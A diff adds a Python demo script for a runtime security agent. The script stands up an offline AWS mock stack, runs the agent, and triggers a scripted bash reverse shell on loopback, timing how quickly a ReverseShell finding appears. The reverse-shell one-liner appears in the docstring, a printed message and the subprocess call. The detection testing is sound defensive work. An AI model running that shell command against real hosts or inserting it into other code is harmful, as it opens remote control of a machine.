@@ -1,0 +1,125 @@
+"""make demo-live: the real agent on this host feeds the offline stack; a reverse shell on
+loopback becomes an Execution:Runtime/ReverseShell finding on FindingsBus within seconds.
+
+    python benchmarks/agent_demo_live.py [--port N] [--timeout 30]
+
+Root only. Steps: start the offline stack (local.stack: moto on 127.0.0.1, template.yaml
+deployed), tap FindingsBus with an SQS queue (as `make demo` does), start vigil-agent with a
+config written from the stack outputs (stream, region, endpoint), then run a scripted reverse
+shell entirely on loopback: a listener on 127.0.0.1 and
+    bash -c 'bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1'
+and wait for the finding on the bus. Prints the time from the shell's exec to the bus event.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+sys.path[:0] = [str(ROOT), str(ROOT / "layers/core"), str(ROOT / "layers/aws"), str(ROOT / "agent")]
+
+WANT = "Execution:Runtime/ReverseShell"
+
+
+def main() -> int:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--port", type=int, default=0, help="moto port (default: the stack's default)")
+    ap.add_argument("--timeout", type=float, default=30.0)
+    a = ap.parse_args()
+    if os.geteuid() != 0:
+        print("demo-live: needs root (the agent reads audit netlink)", file=sys.stderr)
+        return 2
+
+    from rich.console import Console
+
+    from local.demo import drain, tap_bus
+    from local.stack import started
+
+    console = Console()
+    kwargs = {"port": a.port} if a.port else {}
+    with started(console, **kwargs) as stack:
+        assert stack.info is not None
+        out = stack.info.outputs
+        tap_url = tap_bus(stack, out["FindingsBusName"])
+        work = Path(tempfile.mkdtemp(prefix="vigil-demo-live-"))
+        cfg = work / "agent.toml"
+        cfg.write_text(f"""# written by demo-live from local/.state/stack.json outputs
+[agent]
+instance_id = "i-0demolive0000001"
+account_id = "{stack.info.account_id}"
+region = "{stack.info.region}"
+state_dir = "{work / 'state'}"
+heartbeat_s = 10.0
+audit_key = "vigil-demo-live"
+[kinesis]
+stream = "{out['TelemetryStreamName']}"
+region = "{stack.info.region}"
+endpoint_url = "{stack.info.endpoint_url}"
+""")
+        env = dict(os.environ, PYTHONPATH=f"{ROOT / 'layers/core'}:{ROOT / 'agent'}",
+                   AWS_ACCESS_KEY_ID="testing", AWS_SECRET_ACCESS_KEY="testing")
+        log = open(work / "agent.log", "wb")
+        agent = subprocess.Popen([sys.executable, "-m", "vigil_agent.main", "--config", str(cfg)], env=env,
+                                 stdout=subprocess.DEVNULL, stderr=log)
+        shell = None
+        srv = socket.socket()
+        try:
+            time.sleep(2.5)
+            if agent.poll() is not None:
+                console.print((work / "agent.log").read_text())
+                return 1
+            console.rule("[bold]vigil-agent running[/] (config from the stack outputs)")
+            srv.bind(("127.0.0.1", 0))
+            srv.listen(1)
+            port = srv.getsockname()[1]
+            console.print(f"attacker listener on 127.0.0.1:{port}; victim runs: "
+                          f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
+            t0 = time.monotonic()
+            shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
+                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            conn, _ = srv.accept()
+            conn.sendall(b"id\n")
+            found = None
+            while time.monotonic() - t0 < a.timeout and found is None:
+                for ev in drain(stack, tap_url):
+                    if ev.get("detail", {}).get("type") == WANT:
+                        found = ev
+                        break
+                time.sleep(0.2)
+            took = time.monotonic() - t0
+            conn.sendall(b"exit\n")
+            conn.close()
+            if found is None:
+                console.print(f"[red]no {WANT} finding on the bus after {a.timeout:.0f} s[/]")
+                console.print((work / "agent.log").read_text()[-3000:])
+                return 1
+            d = found["detail"]
+            proc = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
+            console.rule("[bold green]finding on FindingsBus")
+            console.print(f"type      {d['type']}")
+            console.print(f"severity  {d['severity']}   title: {d.get('title', '')}")
+            console.print(f"instance  {d.get('resource', {}).get('instanceDetails', {}).get('instanceId', '')}")
+            console.print(f"process   {proc.get('name', '')} pid {proc.get('pid', '')} "
+                          f"{proc.get('executablePath', '')}")
+            console.print(f"[bold]shell exec -> finding on the bus: {took:.2f} s[/]")
+            return 0
+        finally:
+            if shell is not None and shell.poll() is None:
+                shell.kill()
+            srv.close()
+            agent.terminate()
+            try:
+                agent.wait(timeout=20)
+            except subprocess.TimeoutExpired:
+                agent.kill()
+
+
+if __name__ == "__main__":
+    sys.exit(main())
